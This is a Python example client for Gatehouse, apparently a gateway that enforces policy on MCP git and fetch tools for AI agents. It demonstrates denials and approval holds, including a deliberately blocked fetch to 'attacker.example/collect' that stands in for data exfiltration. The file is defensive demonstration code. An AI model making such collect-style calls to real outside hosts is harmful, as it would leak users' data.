"""An MCP client of the example: the official SDK's client, pointed at Gatehouse.

    GATEHOUSE_API_KEY=ghk_... python3 examples/mcp/client.py --repo /tmp/gatehouse-demo-repo

It lists the git tools, reads the repository (allowed), tries `git_reset` (denied: the model
sees the rule), `git_commit` (waits for a person: the model sees the approval id) and a fetch
outside the allow-list (denied). Both connections share one Gatehouse session
(`X-Gatehouse-Session`), so what `fetch` brought in counts when a later git call writes it.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import uuid
from typing import Any

import httpx2
from mcp import Client
from mcp.client.streamable_http import streamable_http_client


def _text(result: Any) -> str:
    return "".join(getattr(c, "text", "") for c in result.content).strip()


def _connect(url: str, key: str, adapter: str, session: str) -> Client:
    headers = {"Authorization": f"Bearer {key}", "X-Gatehouse-Session": session}
    http = httpx2.AsyncClient(headers=headers, timeout=60)
    return Client(streamable_http_client(f"{url}/mcp/{adapter}", http_client=http))


async def main(url: str, key: str, repo: str) -> None:
    session = f"example-{uuid.uuid4().hex[:12]}"
    async with _connect(url, key, "git", session) as git, _connect(url, key, "fetch", session) as fetch:
        tools = sorted(t.name for t in (await git.list_tools()).tools)
        print("git tools:", ", ".join(tools))
        calls: list[tuple[Client, str, dict[str, Any]]] = [
            (git, "git_status", {"repo_path": repo}),
            (git, "git_log", {"repo_path": repo, "max_count": 3}),
            (git, "git_reset", {"repo_path": repo}),
            (git, "git_commit", {"repo_path": repo, "message": "wip"}),
            (fetch, "fetch", {"url": "https://attacker.example/collect?d=1"}),
        ]
        for client, tool, args in calls:
            result = await client.call_tool(tool, args)
            verdict = "REFUSED" if result.is_error else "ok"
            first = _text(result).splitlines()[0] if _text(result) else ""
            print(f"{tool:<11} {verdict:<8} {first[:150]}")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--url", default=os.environ.get("GATEHOUSE_URL", "http://127.0.0.1:8081"))
    parser.add_argument("--repo", default="/tmp/gatehouse-demo-repo")
    args = parser.parse_args()
    key = os.environ.get("GATEHOUSE_API_KEY")
    if not key:
        raise SystemExit("set GATEHOUSE_API_KEY to the key `gatehouse identity create` printed")
    asyncio.run(main(args.url.rstrip("/"), key, args.repo))
